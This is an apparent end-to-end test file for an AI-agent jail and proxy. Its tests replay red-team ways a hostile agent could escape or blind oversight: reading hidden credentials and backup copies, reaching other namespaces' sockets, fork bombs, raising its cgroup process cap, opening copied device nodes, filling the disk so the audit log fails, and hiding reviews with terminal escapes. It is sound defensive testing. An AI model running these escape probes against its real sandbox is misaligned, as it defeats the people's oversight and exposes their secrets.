"""A hostile agent inside `exec --jail`: each test is a way a red team found to read what the jail hides, run as the
agent would, with the real jail and real commands."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from goex_proxy.audit import layout
from tests.conftest import GITHUB_POLICY, GOEX, free_port

pytestmark = pytest.mark.e2e


def replace_by_rename(path: Path, text: str) -> None:
    """Write `path` as editors, `git credential-store` and `docker login` do: a new file renamed over the old one."""
    fresh = path.with_name(path.name + ".new")
    fresh.write_text(text)
    os.rename(fresh, path)


#: Reads each path once, says it is ready, waits for the go-ahead (a file the host makes outside), reads them again.
READ_TWICE = """
for f in "$@"; do echo "before $f: $(cat "$f" 2>&1)"; done
touch "$READY"
while [ ! -e "$GO" ]; do sleep 0.05; done
for f in "$@"; do echo "after $f: $(cat "$f" 2>&1)"; done
"""


def wait_ready(p: subprocess.Popen[str], home: Path) -> None:
    """Until the jailed command of `p` (run with `--files review`) has written `ready` in its workspace."""
    deadline = time.monotonic() + 60
    while p.poll() is None and not any(home.glob("runs/*/upper/ready")):
        assert time.monotonic() < deadline, "the jailed command never got ready"
        time.sleep(0.05)


def test_a_hidden_file_replaced_during_the_run_stays_hidden(make_proxy, outside):
    """A credential store and a config file outside the state directory, rewritten by rename while the agent runs
    (as editors save, and as `git credential-store` and `docker login` write) or renamed aside with a new one written
    (as Emacs keeps a backup), stay hidden: the kernel drops a mount whose mount point is renamed over, so covering
    the file itself with a mount does not survive the rewrite, and the old file must not show under its new name."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    home = outside / "home"
    home.mkdir()
    netrc = home / ".netrc"
    netrc.write_text("machine example.com password NETRC-FIRST\n")
    config = outside / "etc" / "goex.yaml"
    config.parent.mkdir()
    config.write_text(proxy.config.read_text().replace("policies/", f"{proxy.home}/policies/")
                      + f"state_dir: {proxy.home}\n")
    workspace = outside / "ws"
    workspace.mkdir()
    ready, go = workspace / "ready", outside / "go"
    env = {**proxy.env, "HOME": str(home)}
    script = READ_TWICE.replace("$READY", str(ready)).replace("$GO", str(go))
    p = subprocess.Popen([*GOEX, "exec", "--config", str(config), "--agent", "mailbot", "--files", "review", "--",
                          "sh", "-c", script, "sh", str(netrc), str(config), f"{config}~"], env=env, cwd=workspace,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        wait_ready(p, proxy.home)
        replace_by_rename(netrc, "machine example.com password NETRC-SECOND\n")
        os.rename(config, config.with_name(config.name + "~"))  # as Emacs keeps a backup: the old file renamed aside
        config.write_text(config.with_name(config.name + "~").read_text() + "# CONFIG-SECOND\n")
        go.touch()
        out, err = p.communicate(timeout=60)
    finally:
        if p.poll() is None:
            p.kill()
    assert p.returncode == 0, err
    assert "after" in out, out
    for secret in ("NETRC-FIRST", "NETRC-SECOND", "mailbot-token-1", "CONFIG-SECOND"):
        assert secret not in out, out


def test_the_consoles_tls_key_is_hidden(make_proxy, outside, upstream_ca):
    """The console's TLS private key, wherever the config keeps it, is goex-proxy's own secret like the CA's key."""
    ca, _ = upstream_ca
    cert = ca.issue_cert("console.example.test")
    keys = outside / "tls"
    keys.mkdir()
    cert.private_key_pem.write_to_path(str(keys / "console.key"))
    cert.cert_chain_pems[0].write_to_path(str(keys / "console.crt"))
    proxy = make_proxy(GITHUB_POLICY, start=False, extra_config=(
        f"console:\n  listen: 127.0.0.1:{free_port()}\n  tls_cert: {keys / 'console.crt'}\n  tls_key: {keys / 'console.key'}\n"))
    workspace = outside / "ws"
    workspace.mkdir()
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c",
                        f"cat {keys / 'console.key'}; cat {keys / 'console.crt'} >/dev/null && echo cert-readable"],
                       env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=90)
    assert "cert-readable" in r.stdout, r.stderr  # the certificate is public; the test reads the right place
    assert "PRIVATE KEY" not in r.stdout


def test_executes_program_cannot_hide_the_review_with_terminal_escapes(make_proxy):
    """The program `execute` runs writes to the person's terminal: control sequences in its output (here: conceal,
    which would make the review that follows invisible under a fake one it printed, clear screen, carriage return) are
    shown as escapes, never sent to the terminal, so what the review says after it is what the person sees."""
    from tests.fake_openai import FakeOpenAI

    with FakeOpenAI(api_key="sk-jail-attack") as fake:
        llm = f"llm: {{base_url: '{fake.base_url}', model: fake-model, api_key: {{env: TEST_LLM_KEY}}, timeout: 10s}}\n"
        proxy = make_proxy(GITHUB_POLICY, start=False, extra_config=llm)
        proxy.env["TEST_LLM_KEY"] = "sk-jail-attack"
        fake.script('```python\nimport sys\nprint("requests made: none\\x1b[2J\\x1b[8m\\rFAKE")\n'
                    'print("\\x1b[8m\\x9b8m", file=sys.stderr)\n```\n')
        r = proxy.run_cli("execute", "--config", str(proxy.config), "say hi", "--agent", "mailbot", "--yes",
                          "--then", "keep", timeout=90)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "requests made: none" in r.stdout  # the program's output is still shown
    assert "\x1b" not in r.stdout + r.stderr and "\x9b" not in r.stdout + r.stderr and "\r" not in r.stdout
    assert "\\x1b[8m" in r.stdout and "\\x1b[8m" in r.stderr


def test_an_agent_that_fills_the_state_directorys_disk_gets_nothing_past_the_log(make_proxy, upstream, outside):
    """The run's layer is in the state directory: an agent can fill its filesystem (here a 6 MB tmpfs) by writing in
    the workspace. The audit log can then take no row, and every request after that is refused, never forwarded
    (without `run`, `exec`'s own proxy writes every row ahead, reads too); the person sees why in one line per
    request, not a traceback."""
    from tests.conftest import GITHUB_URL

    proxy = make_proxy(GITHUB_POLICY, start=False)
    small = outside / "small"
    small.mkdir()
    workspace = outside / "ws"
    workspace.mkdir()
    command = " ".join([*GOEX, "exec", "--config", f"{small}/config.yaml", "--agent", "mailbot", "--", "sh", "-c"])
    agent = (f"curl -s -o /dev/null -w 'first %{{http_code}}\\n' {GITHUB_URL}; "
             "dd if=/dev/zero of=fill bs=1M count=32 2>/dev/null; "
             f"curl -s -o /dev/null -w 'second %{{http_code}}\\n' {GITHUB_URL}; "
             f"curl -s -o /dev/null -w 'third %{{http_code}}\\n' {GITHUB_URL}; "
             f"curl -s -o /dev/null -w 'fourth %{{http_code}}\\n' {GITHUB_URL}")
    script = f"mount -t tmpfs -o size=6m tmpfs {small} && cp -a {proxy.home}/. {small} && {command} \"{agent}\""
    unshare = ["unshare", "-m"] if os.geteuid() == 0 else ["unshare", "-Urm"]
    r = subprocess.run([*unshare, "sh", "-c", script], cwd=workspace, env=proxy.env, capture_output=True, text=True,
                       timeout=120)
    assert "first 200" in r.stdout, r.stdout + r.stderr
    assert "second 502" in r.stdout and "third 502" in r.stdout and "fourth 502" in r.stdout, r.stdout + r.stderr
    assert upstream.seen_paths("api.github.com") == ["/repos/octo/hello"]
    said = r.stdout + r.stderr
    assert "audit write failed" in said and "Traceback" not in said, said


def test_reads_through_the_gateway_are_not_unrecorded_once_the_log_fails(make_proxy, outside, upstream_ca):
    """The gateway sends a read before its row is committed. An agent that fills the state directory's disk from the
    jail would then have each new connection's first read run unrecorded, as many times as it connects: once the log
    has failed to take a row, reads wait for theirs as writes do, and are refused while it cannot; once it has room
    again, they work again."""
    from tests.pg import APP_USER, running_postgres, server_bin

    if server_bin() is None or shutil.which("psql") is None:
        pytest.skip("PostgreSQL is not installed (tests/install-tools)")
    import psycopg

    cert = upstream_ca[0].issue_cert("127.0.0.1")
    chain = b"".join(blob.bytes() for blob in cert.cert_chain_pems)
    with running_postgres(free_port(), (chain, cert.private_key_pem.bytes())) as pg:
        with psycopg.connect(pg.dsn(), autocommit=True) as conn:
            conn.execute(f"CREATE ROLE {APP_USER[0]} LOGIN PASSWORD '{APP_USER[1]}'")
            conn.execute(f"CREATE DATABASE shop OWNER {APP_USER[0]}")
        with psycopg.connect(pg.dsn(APP_USER, "shop"), autocommit=True) as conn:
            conn.execute("CREATE TABLE orders (id int PRIMARY KEY, item text)")
            conn.execute("INSERT INTO orders VALUES (1, 'apples'), (2, 'pears'), (3, 'plums'), (4, 'figs')")
        port = free_port()
        policy = ("version: 1\nname: shop\nrules:\n  - name: read orders\n"
                  "    allow: {database: shop, statements: [select], tables: [orders]}\n")
        proxy = make_proxy({"shop": policy}, start=False, extra_config=(
            f"databases:\n  listen: 127.0.0.1:{port}\n  shop:\n    host: 127.0.0.1\n    port: {pg.port}\n"
            f"    user: {APP_USER[0]}\n    password: shop-db\n    agents: [mailbot]\n"))
        stored = proxy.run_cli("secrets", "set", "--config", str(proxy.config), "shop-db", input=APP_USER[1].encode())
        assert stored.returncode == 0, stored.stderr
        small = outside / "small"
        small.mkdir()
        workspace = outside / "ws"
        workspace.mkdir()
        goex = " ".join(GOEX)
        reads = "".join(f"psql \"$DATABASE_URL\" -Atc \"select 'read-' || item from orders where id = {i}\"\n"
                        for i in range(1, 5))
        (workspace / "agent.sh").write_text(
            f"psql \"$DATABASE_URL\" -Atc \"select 'before-' || count(*) from orders\"\n"
            f"dd if=/dev/zero of=fill bs=1M count=32 2>/dev/null\n{reads}rm fill\n"
            f"psql \"$DATABASE_URL\" -Atc \"select 'again-' || count(*) from orders\"\n"
            f"psql \"$DATABASE_URL\" -Atc \"select 'queued-' || count(*) from orders\"\n")
        script = (f"mount -t tmpfs -o size=6m tmpfs {small} && cp -a {proxy.home}/. {small} && "
                  f"{{ {goex} run --config {small}/config.yaml --no-console >{outside}/run.log 2>&1 & }}; RUN=$!; "
                  f"python3 -c 'import socket, time\nfor _ in range(200):\n try: socket.create_connection((\"127.0.0.1\", "
                  f"{port})); break\n except OSError: time.sleep(0.1)' && "
                  f"{goex} exec --config {small}/config.yaml --agent mailbot -- sh agent.sh; "
                  f"kill $RUN; wait $RUN")
        unshare = ["unshare", "-m"] if os.geteuid() == 0 else ["unshare", "-Urm"]
        r = subprocess.run([*unshare, "sh", "-c", script], cwd=workspace, env=proxy.env, capture_output=True,
                           text=True, timeout=180)
    assert "before-4" in r.stdout, r.stdout + r.stderr + (outside / "run.log").read_text()
    leaked = [line for line in r.stdout.splitlines() if line.startswith("read-")]
    assert len(leaked) <= 1, (leaked, r.stderr)
    assert "again-4" in r.stdout and "queued-4" in r.stdout, r.stdout + r.stderr  # with room again, reads work again


def test_a_host_socket_restarted_during_the_run_stays_out_of_reach(make_proxy, outside):
    """A service restarted while the agent runs binds its socket again at the same path (a database's, say, where
    peer authentication would let the agent in as the person): the new socket is as out of reach as the old one."""
    import socket

    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    sockets = outside / "sockets"
    sockets.mkdir()
    path = sockets / "db.sock"
    go = outside / "go"
    script = (f"touch ready; while [ ! -e {go} ]; do sleep 0.05; done; "
              f"python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('{path}'); "
              f"print('CONNECTED')\"")
    first = socket.socket(socket.AF_UNIX)
    first.bind(str(path))
    first.listen(5)
    p = subprocess.Popen([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--files", "review", "--",
                          "sh", "-c", script], env=proxy.env, cwd=workspace, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    try:
        wait_ready(p, proxy.home)
        first.close()
        path.unlink()
        with socket.socket(socket.AF_UNIX) as again:
            again.bind(str(path))
            again.listen(5)
            go.touch()
            out, err = p.communicate(timeout=60)
    finally:
        if p.poll() is None:
            p.kill()
    assert "CONNECTED" not in out, out + err
    assert "Traceback" in err  # the connection failed in the jail (the test reached the connect)


#: A service on a Unix socket in a network namespace of its own (as a container's or an `unshare -n` one is): it
#: answers each connection with a secret.
OTHER_NAMESPACE_SERVICE = """
import os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.bind(sys.argv[1])
s.listen(5)
while True:
    conn, _ = s.accept()
    conn.sendall(b"SECRET-FROM-ANOTHER-NAMESPACE")
    conn.close()
"""


def test_a_socket_bound_in_another_network_namespace_is_out_of_reach(make_proxy, outside):
    """The jail covered the sockets listed in this network namespace's /proc/net/unix only: a service bound in a
    namespace of its own (a container's, an `unshare -n` service's) at a path the jail can see was reachable, and
    handed its secret to the jailed command. Sockets bound in every namespace a process here is in are covered."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    path = outside / "service.sock"
    service = subprocess.Popen(["unshare", "-rn", sys.executable, "-c", OTHER_NAMESPACE_SERVICE, str(path)])
    try:
        deadline = time.monotonic() + 20
        while not path.exists():
            assert service.poll() is None and time.monotonic() < deadline, "the service did not start"
            time.sleep(0.05)
        with socket.socket(socket.AF_UNIX) as here:  # reachable from outside the jail, as any socket of its path
            here.connect(str(path))
            assert here.recv(100).startswith(b"SECRET")
        script = ("import socket\ns = socket.socket(socket.AF_UNIX)\ns.settimeout(3)\ntry:\n"
                  f"    s.connect({str(path)!r})\n    print(s.recv(100).decode())\n"
                  "except OSError as exc:\n    print('refused', type(exc).__name__)")
        r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "python3", "-c",
                            script], env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    finally:
        service.kill()
        service.wait()
    assert r.returncode == 0, r.stderr
    assert "SECRET" not in r.stdout and r.stdout.startswith("refused"), r.stdout


def test_an_editors_copy_of_the_config_made_before_the_run_is_hidden(make_proxy, outside):
    """The config outside the state directory holds every agent's token, and so does the copy an editor leaves beside
    it when the person last edited it (Emacs's `goex.yaml~` and `#goex.yaml#`, vim's `.goex.yaml.swp`, a `.bak`):
    hidden too, whether it was made before the run or during it (the directory is rebuilt from its names)."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    config = outside / "etc" / "goex.yaml"
    config.parent.mkdir()
    text = proxy.config.read_text().replace("policies/", f"{proxy.home}/policies/") + f"state_dir: {proxy.home}\n"
    config.write_text(text)
    assert "mailbot-token-1" in text
    copies = [config.with_name(name) for name in ("goex.yaml~", "#goex.yaml#", ".goex.yaml.swp", "goex.yaml.bak")]
    for copy in copies:
        copy.write_text(text)
    other = config.with_name("notes.txt")
    other.write_text("NOT-A-SECRET\n")
    workspace = outside / "ws"
    workspace.mkdir()
    shown = subprocess.run([*GOEX, "exec", "--config", str(config), "--agent", "mailbot", "--files", "review", "--",
                            "cat", str(other), *map(str, copies)], env=proxy.env, cwd=workspace, capture_output=True,
                           text=True, timeout=120)
    assert "NOT-A-SECRET" in shown.stdout, shown.stderr  # the directory's other files are in view as before
    assert "mailbot-token-1" not in shown.stdout + shown.stderr


def test_a_copy_a_person_kept_of_a_hidden_directory_is_hidden_too(make_proxy, outside):
    """A hidden directory's copy beside it (`~/.ssh.bak`, `~/.aws-old`, `~/.gnupg~`, `~/.ssh.2024-06-01`) holds the
    same keys, and was in the jail's view: only files beside hidden files were taken for copies. A directory beside
    it that does not say it is a copy stays the person's own, in view."""
    keys = outside / "keys"
    copies = [outside / name for name in ("keys.bak", "keys-old", "keys~", "keys.2024-06-01", "keys_backup")]
    own = outside / "keys-agent"
    for directory in (keys, *copies, own):
        directory.mkdir()
        (directory / "id").write_text(f"PRIVATE-KEY-{directory.name}\n" if directory != own else "NOT-A-SECRET\n")
    proxy = make_proxy(GITHUB_POLICY, start=False, extra_config=f"sandbox: {{hide: [{json.dumps(str(keys))}]}}\n")
    workspace = outside / "ws"
    workspace.mkdir()
    shown = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c",
                            "cat " + " ".join(f"'{d}/id'" for d in (keys, *copies, own)) + "; true"],
                           env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert "NOT-A-SECRET" in shown.stdout, shown.stderr
    assert "PRIVATE-KEY" not in shown.stdout + shown.stderr, shown.stdout


def test_bytes_that_are_not_utf8_keep_no_request_out_of_the_log(make_proxy, upstream, outside):
    """HTTP lets a header value carry any byte (obs-text: a Latin-1 file name), and mitmproxy reads one that is not
    UTF-8 as a lone surrogate, which SQLite cannot store as text. An agent's header or query holding one made its row
    fail to write, and with it the whole transaction: its request was refused and left no row at all, an upstream's
    answer holding one lost the row's outcome (the agent had it; the log said "may have happened"), and every other
    agent's row and outcome written in the same transaction went with them. Now the row is written, its bytes shown."""
    from tests.conftest import GITHUB_URL

    proxy = make_proxy(GITHUB_POLICY)
    upstream.state.echo_headers = {"X-Name": "caf\xe9"}  # sent as the single byte 0xE9, as Latin-1
    workspace = outside / "ws"
    workspace.mkdir()
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "bash", "-c",
                        f"curl -sS -o /dev/null -w '%{{http_code}}' -H $'X-Note: caf\\xe9' {GITHUB_URL}"],
                       env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert (r.returncode, r.stdout) == (0, "200"), r.stderr
    assert upstream.seen_paths("api.github.com") == ["/repos/octo/hello"]
    [row] = proxy.rows()
    assert (row["decision"], row["status"]) == ("allow", 200)
    assert ["x-note", "caf\udce9"] in json.loads(str(row["req_headers"]))
    assert ["X-Name", "caf\udce9"] in json.loads(str(row["resp_headers"]))
    shown = proxy.cli("show", str(row["id"]))
    assert shown.returncode == 0, shown.stderr
    assert "x-note: caf\\xe9" in shown.stdout and "X-Name: caf\\xe9" in shown.stdout
    verified = proxy.cli("log", "verify")
    assert verified.returncode == 0, verified.stdout + verified.stderr


def test_a_body_nested_past_pythons_parser_is_still_shown(make_proxy, outside):
    """A JSON body nested deeper than Python's parser goes is refused before policy, and recorded. Showing it, as JSON
    indented, raised RecursionError: `show` ended in an internal error before the body and the outcome, and the console's
    page of that request failed, so the agent's attempt could not be read where a person looks. It is shown as text."""
    from tests.e2e.test_console import signed_in, with_console

    proxy, base, token = with_console(make_proxy, GITHUB_POLICY)
    workspace = outside / "ws"
    workspace.mkdir()
    agent = ("python3 -c \"print('[' * 100000 + ']' * 100000)\" > deep.json && curl -sS -o /dev/null -w '%{http_code}' "
             "-H 'content-type: application/json' --data-binary @deep.json https://api.github.com/repos/octo/hello")
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--files", "review", "--",
                        "bash", "-c", agent], env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert (r.returncode, r.stdout) == (0, "403"), r.stderr
    [row] = proxy.rows()
    assert row["rule"] == "request-body"
    shown = proxy.cli("show", str(row["id"]))
    assert shown.returncode == 0, shown.stderr
    assert "[[[[" in shown.stdout and "403 in" in shown.stdout
    client = signed_in(base, token)
    try:
        page = client.get(f"/request/{row['id']}")
    finally:
        client.close()
    assert page.status_code == 200 and "[[[[" in page.text


def test_no_agents_value_is_stored_on_top_of_anothers(make_proxy, outside):
    """The log stores a small value deflated on top of the last one of its field, host and method, and a value it
    stored recently only once. Across agents that is a side channel: a jailed agent sees the free space of the disk
    the log is on (its workspace layer is there), and what it sends cost the log less the closer it came to what
    another agent sent there before, down to nothing for an exact guess (denied requests are recorded too). Each
    agent's values are stored apart from every other agent's."""
    proxy = make_proxy(GITHUB_POLICY)
    workspace = outside / "ws"
    workspace.mkdir()
    secret = '{"note": "the merger with Initech closes on 2026-03-14, tell nobody"}'
    guesses = [secret, secret.replace("Initech", "Initrode")]
    for agent, bodies in (("mailbot", [secret]), ("slackbot", guesses)):
        posts = "; ".join(f"curl -sS -o /dev/null -H 'content-type: application/json' --data '{body}' "
                          "https://api.github.com/repos/octo/hello" for body in bodies)
        r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", agent, "--files", "review", "--",
                            "bash", "-c", posts], env=proxy.env, cwd=workspace, capture_output=True, text=True,
                           timeout=120)
        assert r.returncode == 0, r.stderr
    bases = {blob["id"]: blob["base"] for blob in proxy.table("audit_blobs")}
    agent_of = {str(r["id"]): r["agent"] for r in proxy.rows()}  # the table holds the id of its name
    named: dict[str, set[int]] = {}
    for row in proxy.table("requests"):
        ids = {row[c] for c in row if c.endswith("_blob") and row[c] is not None}
        named.setdefault(agent_of[str(layout.id_read(row["id"]))], set()).update(ids | {bases[i] for i in ids if bases[i] is not None})
    assert [r["agent"] for r in proxy.rows()] == ["mailbot", "slackbot", "slackbot"]
    assert [r["req_body"] for r in proxy.rows()] == [g.encode() for g in [secret, *guesses]]
    assert named["mailbot"] and named["slackbot"] and not named["mailbot"] & named["slackbot"]


def test_no_env_secret_of_the_config_reaches_the_agent_whatever_pass_env_says(make_proxy, outside):
    """The jail promises never an `{env:}` secret, whatever `sandbox.pass_env` says; an OAuth2 client secret and an
    approvals channel's URL and token taken from the environment were not on the withheld list, so a `pass_env`
    naming them (or `exec --no-jail`, which inherits everything else) handed them to the agent."""
    secrets = {"GOEX_TEST_CLIENT_SECRET": "client-secret-value-1", "GOEX_TEST_HOOK": "https://hooks.example.net/xyz",
               "GOEX_TEST_NTFY_TOKEN": "ntfy-token-value-2"}
    extra = ("credentials:\n  gmail:\n    secret: gmail-oauth\n    hosts: [gmail.googleapis.com]\n    inject:\n"
             "      oauth2: {provider: google, client_id: x.apps.googleusercontent.com,\n"
             "               client_secret: {env: GOEX_TEST_CLIENT_SECRET}}\n"
             "approvals:\n  listen: false\n  notify:\n    - webhook: {url_env: GOEX_TEST_HOOK}\n"
             "    - ntfy: {url: 'https://ntfy.sh/a-topic', token_env: GOEX_TEST_NTFY_TOKEN}\n"
             f"sandbox:\n  pass_env: [{', '.join(secrets)}, GOEX_TEST_PLAIN]\n")
    proxy = make_proxy(GITHUB_POLICY, start=False, extra_config=extra)
    proxy.env.update(secrets, GOEX_TEST_PLAIN="plain-value")
    workspace = outside / "ws"
    workspace.mkdir()
    for jail in ("--jail", "--no-jail"):
        if jail == "--no-jail":
            proxy.start()
        r = subprocess.run([*GOEX, "exec", jail, "--config", str(proxy.config), "--agent", "mailbot", "--", "env"],
                           env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr
        assert "GOEX_TEST_PLAIN=plain-value" in r.stdout  # pass_env works: the test reads the right place
        for name, value in secrets.items():
            assert value not in r.stdout and name not in r.stdout, (jail, name)


#: Forks up to 200 children that sleep, and says how many it got before the kernel refused one.
FORK_MANY = """
import os, time
kids = []
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    kids.append(pid)
print(len(kids))
for pid in kids:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
"""


def test_a_fork_bomb_stops_at_the_jails_process_cap(make_proxy, outside, tmp_path):
    """A jailed fork bomb took every process slot of the person's uid (and goex-proxy's own threads with them) until
    someone killed it. The jail's processes and threads are capped by `sandbox.max_processes`, counted in the jail's
    own user namespace (RLIMIT_NPROC), so nothing outside it counts against it. Here 200 forks against a cap of 30,
    as an unprivileged user (the kernel holds uid 0 to no such cap: the test below covers root)."""
    from tests.e2e.test_jail import jailinit_dir, run_jailinit

    proxy = make_proxy(GITHUB_POLICY, start=False, extra_config="sandbox: {max_processes: 64}\n")
    workspace = outside / "ws"
    workspace.mkdir()
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "grep", "processes",
                        "/proc/self/limits"], env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split()[2:4] == ["64", "64"], r.stdout  # the config's cap is the command's

    with jailinit_dir() as (run_dir, user):
        message, _, out = run_jailinit(run_dir, user, ["/usr/bin/python3", "-c", FORK_MANY], timeout=60,
                                       max_processes=30)
    assert message == b"ok", message
    assert 20 <= int(out) < 30, out  # the init and the command count too


def test_a_fork_bomb_stops_at_the_cap_whoever_runs_the_jail(make_proxy, outside):
    """The same through `goex-proxy exec`, as whoever runs the tests: run as root (as in many containers), the kernel
    held the jail to no RLIMIT_NPROC, and 200 forks against a cap of 30 all succeeded. A jail run as root is now put
    in a pids cgroup of its own that allows the cap, which goes when the jail ends."""
    from goex_proxy.sandbox import pidcap

    proxy = make_proxy(GITHUB_POLICY, start=False, extra_config="sandbox: {max_processes: 30}\n")
    workspace = outside / "ws"
    workspace.mkdir()
    proc = subprocess.Popen([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "python3", "-c",
                             FORK_MANY], env=proxy.env, cwd=workspace, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 0, err
    assert 20 <= int(out) < 30, out + err
    assert "max_processes does not hold" not in err, err
    groups = Path("/sys/fs/cgroup/pids")
    if os.geteuid() == 0 and groups.is_dir():
        assert not list(groups.glob(f"{pidcap.PREFIX}{proc.pid}-*"))  # removed when the jail ended
        # Root in the jail can neither leave its group nor raise its cap: /sys is the host's, read-only and locked.
        escape = ("d=$(grep :pids: /proc/self/cgroup | cut -d: -f3); echo $$ > /sys/fs/cgroup/pids/cgroup.procs; "
                  "echo 100000 > /sys/fs/cgroup/pids$d/../pids.max; cat /sys/fs/cgroup/pids$d/../pids.max; "
                  "grep :pids: /proc/self/cgroup")
        r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c",
                            escape], env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
        assert r.stderr.count("Read-only file system") == 2, r.stderr
        cap, group = r.stdout.split()
        assert cap == "31" and f":/{pidcap.PREFIX}" in group, r.stdout


#: Mounts the jail's pids hierarchy where root inside may (a user, mount and cgroup namespace of its own: the mount's
#: root is the cgroup it is in; no id map is needed, its files are still uid 0's to it), raises its cap there, leaves
#: a group of its own in it, then forks as FORK_MANY does.
RAISE_THE_CAP = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000 | 0x02000000) == 0:  # USER | NS | CGROUP: the syscall filter now refuses it
    os.mkdir("/tmp/cg")
    for kind, options in ((b"cgroup", b"pids"), (b"cgroup2", None)):
        if libc.mount(b"cgroup", b"/tmp/cg", kind, 0, options) == 0 and os.path.exists("/tmp/cg/pids.max"):
            break
    with open("/tmp/cg/pids.max", "w") as f:
        f.write("max")
    os.mkdir("/tmp/cg/left-behind")
""" + FORK_MANY


def test_root_in_the_jail_cannot_raise_its_process_cap_nor_leave_a_cgroup_behind(make_proxy, outside):
    """Run as root, the jail's processes are uid 0 in a user namespace that maps uid 0, and its pids cgroup's files are
    root's: in a cgroup namespace of its own, root inside could mount the pids hierarchy (its root is the jail's
    group), write `max` to the jail's own pids.max, and fork past the cap; a group it made there kept the jail's from
    being removed when the jail ended. The cap is now on a group the jail is not in (it runs in one below it), and
    the jail's group is removed with everything under it."""
    from goex_proxy.sandbox import pidcap

    groups = Path("/sys/fs/cgroup/pids")
    if os.geteuid() != 0 or not groups.is_dir():
        pytest.skip("needs root and cgroup v1's pids hierarchy")
    proxy = make_proxy(GITHUB_POLICY, start=False, extra_config="sandbox: {max_processes: 30}\n")
    workspace = outside / "ws"
    workspace.mkdir()
    proc = subprocess.Popen([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "python3", "-c",
                             RAISE_THE_CAP], env=proxy.env, cwd=workspace, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 0, err
    assert 20 <= int(out) < 30, out + err
    assert not list(groups.glob(f"{pidcap.PREFIX}{proc.pid}-*"))


def test_a_device_node_outside_dev_cannot_be_opened_in_the_jail(make_proxy, outside):
    """The jail's view of the machine is the host's filesystems bound read-only and set-id-less, but not device-less: a
    device node anywhere but /dev (a chroot's, a container image's, a copy of /dev) opened in the jail reached the
    device, and read-only mounts do not stop writes to a device. Run as root, a copy of the disk's node (root's, mode
    0600) read and wrote the disk under the state directory. Every mount of the view is now `nodev` but /dev's own
    few devices. Here a copy of /dev/zero, outside the workspace and in it, and, where the test's files are on a
    disk, a copy of the disk's node."""
    if os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    import stat

    zero = outside / "zero-copy"
    os.mknod(zero, stat.S_IFCHR | 0o600, os.stat("/dev/zero").st_rdev)
    nodes = [zero]
    disk = os.stat(outside).st_dev
    if Path(f"/sys/dev/block/{os.major(disk)}:{os.minor(disk)}").exists():
        nodes.append(outside / "disk-copy")
        os.mknod(nodes[-1], stat.S_IFBLK | 0o400, disk)
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    nodes.append(workspace / "zero-copy")  # the workspace's overlay too
    os.mknod(nodes[-1], stat.S_IFCHR | 0o600, os.stat("/dev/zero").st_rdev)
    script = "; ".join(f"head -c 16 {node} | wc -c" for node in nodes) + "; echo done"
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c", script],
                       env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert r.stdout.split() == ["0"] * len(nodes) + ["done"], r.stdout + r.stderr
    assert r.stderr.count("cannot open") == len(nodes), r.stderr  # (a devices cgroup may refuse the disk's already)


@pytest.mark.parametrize(("family", "kind"), [("AF_VSOCK", "SOCK_STREAM"), ("AF_ALG", "SOCK_SEQPACKET")])
def test_the_jail_cannot_make_a_vsock_socket(make_proxy, outside, family, kind):
    """AF_VSOCK, the sockets between a virtual machine and its host, belongs to no network namespace: in a VM (a cloud
    instance, Firecracker, Kata, WSL) the jail's command could connect to the host's vsock services (CID 2), past the
    proxy and its network namespace. The syscall filter now answers socket(AF_VSOCK) as a kernel without it would
    (EAFNOSUPPORT), as Docker's, containerd's and nspawn's do; AF_ALG too, the kernel's crypto interface, which
    programs do without and whose bugs have given root."""
    try:
        socket.socket(getattr(socket, family), getattr(socket, kind)).close()
    except OSError:
        pytest.skip(f"this kernel makes no {family} sockets")
